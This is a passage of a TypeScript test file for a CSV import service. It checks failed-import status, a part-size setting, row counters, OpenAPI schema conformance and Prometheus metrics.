  const s = await importStatus(db.pool, lost);
  assert.equal(s?.status, 'failed');
  assert.equal(s?.error, 'part 0: its worker stopped (job heartbeat timeout) (gave up after 5 attempts)');
  assert.equal(s?.part_list[0]?.status, 'failed');
  assert.deepEqual(await leftOf(lost), { tables: 0, bytes: 0 });
  await app.inject({ method: 'POST', url: `/imports/${staged}/cancel` });
});

test('SLUICE_PART_ROWS is a whole number of at least 100', () => {
  const saved = process.env.SLUICE_PART_ROWS;
  try {
    for (const bad of ['-1', '0', '99', '1.5', 'abc']) {
      process.env.SLUICE_PART_ROWS = bad;
      assert.throws(() => partRowsSetting(), /SLUICE_PART_ROWS must/, bad);
    }
    process.env.SLUICE_PART_ROWS = '100';
    assert.equal(partRowsSetting(), 100);
    delete process.env.SLUICE_PART_ROWS;
    assert.equal(partRowsSetting(), 10_000);
  } finally {
    if (saved === undefined) delete process.env.SLUICE_PART_ROWS;
    else process.env.SLUICE_PART_ROWS = saved;
  }
});

test('an import that ended before its merge shows the rows its parts read and rejected; eta_s only once completed', async () => {
  const { rows } = await db.pool.query<{ id: string }>(
    `INSERT INTO imports (pipeline, status, parts_total, started_at, finished_at) VALUES ('leads', 'cancelled', 2, now() - interval '2 seconds', now()) RETURNING id`,
  );
  const id = rows[0]!.id;
  await db.pool.query(
    `INSERT INTO import_parts (import_id, n, first_line, last_line, bytes, status, rows_read, rows_accepted, rows_rejected)
     VALUES ($1, 0, 2, 11, 100, 'completed', 10, 9, 1), ($1, 1, 12, 21, 100, 'completed', 10, 8, 2)`,
    [id],
  );
  const s = (await app.inject({ method: 'GET', url: `/imports/${id}` })).json();
  assert.deepEqual(s.rows, { read: 20, inserted: 0, updated: 0, unchanged: 0, rejected: 3 });
  assert.equal(s.eta_s, null, 'not 0: nothing is coming');
  await db.pool.query(`UPDATE imports SET status = 'completed', rows_read = 20, rows_inserted = 17, rows_rejected = 3 WHERE id = $1`, [id]);
  const done = (await app.inject({ method: 'GET', url: `/imports/${id}` })).json();
  assert.deepEqual(done.rows, { read: 20, inserted: 17, updated: 0, unchanged: 0, rejected: 3 });
  assert.equal(done.eta_s, 0);
});

test('the OpenAPI document describes the routes, and their answers conform to it', async () => {
  const doc = (await app.inject({ method: 'GET', url: '/docs/openapi.json' })).json();
  for (const p of ['/imports', '/imports/{id}', '/imports/{id}/rejects', '/imports/{id}/cancel']) assert.ok(doc.paths[p], p);
  assert.ok(doc.paths['/imports'].post && doc.paths['/imports'].get);
  const list = (await app.inject({ method: 'GET', url: '/imports?limit=5' })).json();
  assert.deepEqual(checkSchema(doc, { $ref: '#/components/schemas/ImportList' }, list), []);
  const one = (await app.inject({ method: 'GET', url: `/imports/${list.imports[0].id}` })).json();
  assert.deepEqual(checkSchema(doc, { $ref: '#/components/schemas/ImportStatus' }, one), []);
  const err = (await app.inject({ method: 'GET', url: `/imports/${randomUUID()}` })).json();
  assert.deepEqual(checkSchema(doc, { $ref: '#/components/schemas/ApiError' }, err), []);
});

test('upload counters reach /metrics', async () => {
  const res = await app.inject({ method: 'GET', url: '/metrics' });
  assert.match(res.body, /sluice_http_uploads_total\{source="multipart",outcome="accepted"\} \d+/);
  assert.match(res.body, /sluice_http_uploads_total\{source="raw",outcome="invalid_file"\} \d+/);
});

test('/metrics: the backlog read from the database (queued imports by pipeline, queued jobs by queue)', async () => {
  const body = multipart([{ name: 'pipeline', value: 'leads' }, { name: 'file', filename: 'm.csv', content: leadsCsv(3) }]);
  const res = await app.inject({ method: 'POST', url: '/imports', payload: body.payload, headers: body.headers });
  assert.equal(res.statusCode, 202, res.body);
  // No workers here: what the upload queued stays queued. The gauges must say what the tables say.
  const imports = (await db.pool.query(`SELECT pipeline, status, count(*)::int AS n FROM imports WHERE status IN ('queued', 'running') GROUP BY 1, 2`)).rows;
  const jobs = (await db.pool.query(`SELECT name, state::text, count(*)::int AS n FROM pgboss.job WHERE name IN ('sluice-part', 'sluice-merge') AND state IN ('created', 'retry', 'active') GROUP BY 1, 2`)).rows;
  assert.ok(imports.some((r) => r.pipeline === 'leads' && r.status === 'queued' && r.n >= 1), JSON.stringify(imports));
  assert.ok(jobs.some((r) => r.name === 'sluice-part' && r.n >= 1), JSON.stringify(jobs));
  const text = (await app.inject({ method: 'GET', url: '/metrics' })).body;
  for (const r of imports) assert.match(text, new RegExp(`^sluice_imports_unfinished\\{pipeline="${r.pipeline}",status="${r.status}"\\} ${r.n}$`, 'm'));
  for (const r of jobs) assert.match(text, new RegExp(`^sluice_queue_jobs\\{queue="${r.name}",state="${r.state}"\\} ${r.n}$`, 'm'));
});
